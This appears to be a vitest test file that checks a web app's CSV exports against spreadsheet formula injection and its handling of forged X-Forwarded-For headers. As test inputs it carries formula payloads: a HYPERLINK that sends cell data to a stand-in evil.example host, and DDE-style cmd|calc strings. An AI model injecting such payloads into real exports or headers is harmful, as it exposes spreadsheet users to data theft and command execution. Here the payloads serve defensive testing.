import { serve, type ServerType } from '@hono/node-server';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { addGrant } from '../src/access/grants.ts';
import { createToken } from '../src/auth/tokens.ts';
import { listAudit } from '../src/audit/log.ts';
import { tableAsCsv } from '../src/chat/reply.ts';
import { clientAddress, parseTrustProxy } from '../src/net/client-address.ts';
import { createApp } from '../src/server/app.ts';
import { csvCell, toCsv } from '../src/util/csv.ts';
import { createTestDatabase, DB_KINDS, type TestDatabase } from './helpers/db.ts';
import { testServices } from './helpers/services.ts';

/** Issue 19, item 4: formula injection through CSV exports, and the client address behind it. */
describe('the one CSV writer', () => {
  it('neutralises text cells a spreadsheet would run as a formula', () => {
    for (const bad of ['=HYPERLINK("http://evil.example","click")', '+cmd|x', '-2+3', '@SUM(A1)', '\tx', '\rx', '=1']) {
      const cell = csvCell(bad);
      expect(cell.replace(/^"/, ''), JSON.stringify(bad)).toMatch(/^'/);
    }
    expect(csvCell('=a,"b"')).toBe(`"'=a,""b"""`);
  });

  it('keeps numbers numbers: negative number cells and text that is only a number are written as they are', () => {
    expect(csvCell(-5)).toBe('-5');
    expect(csvCell(-1234.5)).toBe('-1234.5');
    expect(csvCell('-5')).toBe('-5');
    expect(csvCell('-3.2%')).toBe('-3.2%');
    expect(csvCell('-1,234.50')).toBe('"-1,234.50"');
    expect(csvCell('+7')).toBe('+7');
    expect(csvCell('-')).toBe("'-");
    expect(csvCell(null)).toBe('');
    expect(toCsv([['a', 'b'], [-5, '=x']])).toBe("a,b\r\n-5,'=x\r\n");
    expect(tableAsCsv({ columns: ['week', 'sales'], rows: [['2012-01-06', -5]], filename: 'x.csv' })).toBe('week,sales\r\n2012-01-06,-5\r\n');
  });
});

describe('the client address', () => {
  it('is the socket peer unless STORECAST_TRUST_PROXY says which hops to believe; only a valid IP', () => {
    const none = parseTrustProxy(undefined);
    expect(clientAddress('10.0.0.9', '203.0.113.7', none)).toBe('10.0.0.9');
    expect(clientAddress('::ffff:10.0.0.9', undefined, none)).toBe('10.0.0.9');
    expect(clientAddress(undefined, '203.0.113.7', none)).toBeUndefined();
    const one = parseTrustProxy('1');
    expect(clientAddress('10.0.0.9', '198.51.100.1, 203.0.113.7', one)).toBe('203.0.113.7');
    expect(clientAddress('10.0.0.9', '=HYPERLINK("x")', one)).toBeUndefined();
    const nets = parseTrustProxy('10.0.0.0/8, loopback');
    expect(clientAddress('10.0.0.9', '198.51.100.1, 203.0.113.7, 10.1.2.3', nets)).toBe('203.0.113.7');
    expect(clientAddress('127.0.0.1', '203.0.113.7', nets)).toBe('203.0.113.7');
    expect(clientAddress('198.51.100.50', '203.0.113.7', nets)).toBe('198.51.100.50');
    expect(() => parseTrustProxy('everything')).toThrow(/not a hop count/);
  });
});

describe.each(DB_KINDS)('CSV exports and the audited client through the composed app (%s)', (kind) => {
  let t: TestDatabase;
  let server: ServerType;
  let base = '';
  const csvOf = async (command: string, headers: Record<string, string> = {}) => {
    const res = await fetch(`${base}/api/v1/commands`, { method: 'POST', headers: { 'content-type': 'application/json', ...headers }, body: JSON.stringify({ command }) });
    expect(res.status, command).toBe(200);
    return ((await res.json()) as { csv?: string }).csv ?? '';
  };

  beforeAll(async () => {
    t = await createTestDatabase(kind);
    await t.db.exec("INSERT INTO stores (store_id, type, size, region) VALUES (1, 'A', 150000, 'West'), (2, 'B', 90000, 'West')");
    // No STORECAST_TRUST_PROXY: X-Forwarded-For is anyone's to send.
    const { app } = createApp(testServices(t.db));
    server = await new Promise<ServerType>((resolve) => {
      const s = serve({ fetch: app.fetch, port: 0, hostname: '127.0.0.1' }, () => resolve(s));
    });
    base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  });
  afterAll(async () => {
    await new Promise((r) => server.close(r));
    await t.cleanup();
  });

  it('a forged X-Forwarded-For is neither the audited client nor a formula in audit.csv', async () => {
    const evil = '=HYPERLINK("http://evil.example/?"&A1,"click")';
    expect((await fetch(`${base}/api/v1/campaigns`, { headers: { 'x-forwarded-for': evil } })).status).toBe(200);
    const clients = (await listAudit(t.db)).filter((r) => r.method === 'GET').map((r) => r.client);
    expect(clients).not.toContain(evil);
    expect(clients[0]).toBe('127.0.0.1');
    const { token, info } = await createToken(t.db, { name: 'auditor', scopes: ['query'] });
    await addGrant(t.db, { principal: `token:${info.id}`, role: 'admin', scope: { kind: 'chain' } });
    const csv = await csvOf('/audit', { authorization: `Bearer ${token}` });
    expect(csv).toMatch(/GET \/api\/v1\/campaigns -> 200/);
    expect(csv).not.toMatch(/(^|,)=HYPERLINK/m);
  });

  it('a campaign note starting with = is text in campaigns.csv', async () => {
    const { token } = await createToken(t.db, { name: 'admin', scopes: ['admin'] });
    const created = await fetch(`${base}/api/v1/campaigns`, {
      method: 'POST',
      headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
      body: JSON.stringify({ name: 'spring', stores: [1], start: '2012-03-02', end: '2012-04-27', notes: '=HYPERLINK("http://evil.example","x")' }),
    });
    expect(created.status, await created.clone().text()).toBe(201);
    const csv = await csvOf('/campaigns');
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example"",""x"")"`);
    expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
  });
});

describe('STORECAST_TRUST_PROXY through the composed app', () => {
  let t: TestDatabase;
  beforeAll(async () => {
    t = await createTestDatabase('pglite');
  });
  afterAll(() => t.cleanup());

  it('keeps the trusted hop\'s client, and no address when that hop is not an IP', async () => {
    const { app } = createApp(testServices(t.db, { STORECAST_TRUST_PROXY: '1' }));
    await app.request('/api/v1/campaigns', { headers: { 'x-forwarded-for': '198.51.100.1, 203.0.113.7' } });
    await app.request('/api/v1/campaigns', { headers: { 'x-forwarded-for': '=cmd|"/c calc"!A1' } });
    const [bad, good] = (await listAudit(t.db)).filter((r) => r.method === 'GET');
    expect(good!.client).toBe('203.0.113.7');
    expect(bad!.client).toBeUndefined();
  });
});
